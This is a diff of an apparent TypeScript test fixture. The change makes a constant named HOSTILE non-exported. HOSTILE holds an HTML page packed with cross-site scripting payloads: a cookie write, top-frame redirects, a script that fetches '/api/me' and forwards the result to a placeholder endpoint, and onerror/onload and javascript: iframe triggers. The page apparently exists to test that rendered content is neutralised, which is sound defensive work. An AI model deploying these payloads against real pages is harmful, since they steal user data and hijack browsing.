@@ -16,7 +16,7 @@ export function article(passage: string): string {
 }
 
 /** A page that tries everything a page can. */
-export const HOSTILE = `<!doctype html><html><head><title>Hostile</title><script>document.cookie='taken=1';top.location='${NEWS}/taken'</script>
+const HOSTILE = `<!doctype html><html><head><title>Hostile</title><script>document.cookie='taken=1';top.location='${NEWS}/taken'</script>
   <meta http-equiv="refresh" content="0;url=${NEWS}/taken"></head><body><article><h1>Hostile</h1><p>${PASSAGE}</p>${FILLER}
   <script>fetch('/api/me').then(r=>r.text()).then(t=>fetch('${NEWS}/taken?'+t))</script><img src="x" onerror="fetch('${NEWS}/taken')">
   <svg onload="fetch('${NEWS}/taken')"></svg><iframe src="javascript:top.location='${NEWS}/taken'"></iframe>
